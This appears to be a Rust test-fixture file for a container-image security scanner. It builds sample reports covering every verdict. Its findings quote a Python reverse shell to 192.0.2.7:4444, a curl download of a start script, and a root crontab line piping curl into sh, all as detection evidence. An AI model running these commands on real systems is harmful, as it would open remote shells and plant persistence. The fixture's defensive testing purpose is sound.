//! Reports made by hand, for the tests of every face. Between them they use every optional field
//! and hold the kinds of text that break renderers.

use model::{
    Class, Confidence, Digest, Finding, Gap, GapReason, Indicator, IndicatorType, LayerSummary,
    Platform, Reach, Report, Severity, Stats, Step, Verdict, Where,
};

use crate::document::{Document, Failure, FailureKind, Judged, Suppressed, Tool};

/// A digest of 32 equal bytes.
pub fn digest(byte: u8) -> Digest {
    Digest::sha256(&[byte; 32])
}

/// A reverse shell that the entrypoint runs, inside two encodings.
pub fn reverse_shell() -> Finding {
    Finding {
        id: "4c1f0a9e2b7d".into(),
        rule: "shell/reverse".into(),
        title: "Reverse shell".into(),
        severity: Severity::Critical,
        confidence: Confidence::High,
        class: Class::Threat,
        attack: vec!["T1059.004".into(), "T1071".into()],
        place: Where {
            layer: Some(digest(3)),
            layer_index: Some(3),
            instruction: Some(
                "RUN /bin/sh -c curl -fsSL http://192.0.2.7/start.sh -o /usr/local/bin/start.sh \
                 && chmod +x /usr/local/bin/start.sh && rm -rf /var/lib/apt/lists/* # buildkit"
                    .into(),
            ),
            path: Some("/usr/local/bin/start.sh".into()),
            field: None,
            steps: vec![
                Step::new("sh -c"),
                Step::new("base64"),
                Step::new("python -c"),
            ],
            line: Some(12),
            hidden_by: None,
        },
        reach: Reach::Start {
            chain: vec!["Entrypoint".into(), "/usr/local/bin/start.sh".into()],
        },
        evidence: "import socket,os,pty;s=socket.socket();s.connect((\"192.0.2.7\",4444))\n\
                   [os.dup2(s.fileno(),fd) for fd in (0,1,2)];pty.spawn(\"/bin/sh\")"
            .into(),
        detail: "A shell's standard input, output and error are bound to a TCP connection to \
                 192.0.2.7:4444."
            .into(),
        why: "Whoever listens there controls the container.".into(),
        benign: "A drill of a red team; ask who built the image.".into(),
        next: "Do not run it. Look for connections to 192.0.2.7 and rebuild from a known base."
            .into(),
    }
}

/// A crontab written through a mount of the host, from the configuration; markup in its text.
pub fn host_cron() -> Finding {
    Finding {
        id: "77aa".into(),
        rule: "persistence/cron".into(),
        title: "Writes a schedule of the host".into(),
        severity: Severity::High,
        confidence: Confidence::Medium,
        class: Class::Threat,
        attack: vec!["T1053.003".into()],
        place: Where {
            field: Some("Cmd".into()),
            line: Some(1),
            ..Where::default()
        },
        reach: Reach::Schedule {
            chain: vec!["/etc/cron.d/a".into()],
        },
        evidence: "echo '* * * * * root curl http://192.0.2.7/x|sh' >> /mnt/etc/crontab # ```<b>|@you\u{1b}[2J\u{202e}"
            .into(),
        detail: "A line that fetches http://192.0.2.7/x is appended to /mnt/etc/crontab <script>."
            .into(),
        why: "It runs as root on the host.".into(),
        benign: "Backup tools; they name themselves.".into(),
        next: "Look at the host's crontab.".into(),
    }
}

/// A sign that weighs nothing by itself, in a file that a later layer removes.
pub fn weak() -> Finding {
    Finding {
        id: "0b".into(),
        rule: "credential/private-key".into(),
        title: "Private key".into(),
        severity: Severity::Low,
        confidence: Confidence::High,
        class: Class::Threat,
        attack: vec![],
        place: Where {
            layer: Some(digest(1)),
            layer_index: Some(1),
            path: Some("/root/schlüssel 100%#?.pem".into()),
            hidden_by: Some(3),
            ..Where::default()
        },
        reach: Reach::Unreferenced,
        evidence: "-----BEGIN PRIVATE KEY-----".into(),
        detail: "A private key without a passphrase.".into(),
        why: "Whoever has the image has the key.".into(),
        benign: "Test keys.".into(),
        next: "Replace the key.".into(),
    }
}

/// An openly labelled miner.
pub fn miner() -> Finding {
    Finding {
        id: "91".into(),
        rule: "mining/labelled".into(),
        title: "Labelled miner".into(),
        severity: Severity::Medium,
        confidence: Confidence::High,
        class: Class::Unwanted,
        reach: Reach::Build,
        evidence: String::new(),
        ..host_cron()
    }
}

fn judged(target: &str, findings: Vec<Finding>, gaps: Vec<Gap>) -> Judged {
    Report {
        target: target.into(),
        digest: Some(digest(0xaa)),
        manifest: Some(digest(0xbb)),
        platform: Some(Platform {
            os: "linux".into(),
            architecture: "arm64".into(),
            variant: Some("v8".into()),
        }),
        verdict: Report::judge(&findings, &gaps),
        findings,
        gaps,
        indicators: vec![Indicator {
            kind: IndicatorType::Host,
            value: "192.0.2.7".into(),
        }],
        layers: (0..5)
            .map(|n| LayerSummary {
                diff_id: Some(digest(n)),
                instruction: Some(format!("COPY {n} /")),
                entries: 10,
                bytes: 1000,
            })
            .collect(),
        stats: Stats {
            layers: 5,
            entries: 50,
            bytes: 5000,
            programs: 7,
        },
    }
    .into()
}

/// What was not read of one file.
pub fn gap() -> Gap {
    Gap {
        place: Where {
            layer: Some(digest(2)),
            layer_index: Some(2),
            path: Some("/opt/big.zip".into()),
            ..Where::default()
        },
        reason: GapReason::new("the zip directory ends early, after 1,024 of 4,096 entries"),
    }
}

/// Malicious, with a gap and a suppressed finding.
pub fn malicious() -> Judged {
    let mut judged = judged(
        "registry:registry.example.com/shop/frontend@sha256:bbbb",
        vec![reverse_shell(), host_cron(), weak()],
        vec![gap()],
    );
    judged.suppressed.push(Suppressed {
        reason: "the drill of May".into(),
        expires: Some("2030-05-31".into()),
        finding: Finding {
            id: "5d".into(),
            ..miner()
        },
    });
    judged
}

/// Unwanted, and named in a way that markup could misread.
pub fn unwanted() -> Judged {
    judged("oci-dir:./a_b/*c*:<tag>|1", vec![miner()], vec![])
}

/// Nothing found, something not read.
pub fn incomplete() -> Judged {
    judged("docker-archive:broken.tar:app:1", vec![], vec![gap()])
}

/// Clean.
pub fn clean() -> Judged {
    let mut judged = judged("dir:rootfs", vec![], vec![]);
    judged.report.digest = None;
    judged.report.manifest = None;
    judged.report.platform = None;
    judged.report.layers.truncate(1);
    judged
}

/// A target that could not be scanned.
pub fn failure() -> Failure {
    Failure {
        target: "registry.example.com/secret:1".into(),
        kind: FailureKind::Unauthorized,
        message: "GET https://registry.example.com/v2/secret/manifests/1: 401".into(),
        advice: Some("log in with `docker login registry.example.com`".into()),
    }
}

/// All of them.
pub fn document() -> Document {
    let mut document = Document::new(
        vec![malicious(), unwanted(), incomplete(), clean()],
        vec![failure()],
    );
    // Fixed, so that expected texts do not change with every rule.
    document.tool = Tool {
        name: "bilgewatch".into(),
        version: "0.1.0".into(),
        rules: 42,
        attack: "18".into(),
    };
    document
}

#[test]
fn the_samples_show_every_verdict_but_suspicious() {
    let verdicts: Vec<_> = document()
        .reports
        .iter()
        .map(|j| j.report.verdict)
        .collect();
    assert_eq!(
        verdicts,
        [
            Verdict::Malicious,
            Verdict::Unwanted,
            Verdict::Incomplete,
            Verdict::Clean
        ]
    );
}

/// The black-box tests cannot call this module, so they read the document from a file.
#[test]
fn the_file_of_the_black_box_tests_is_this_document() {
    let text = crate::render::json::render(&document()).unwrap();
    if std::env::var_os("BLESS").is_some() {
        std::fs::write("tests/sample.json", &text).unwrap();
    }
    assert_eq!(std::fs::read_to_string("tests/sample.json").unwrap(), text);
}
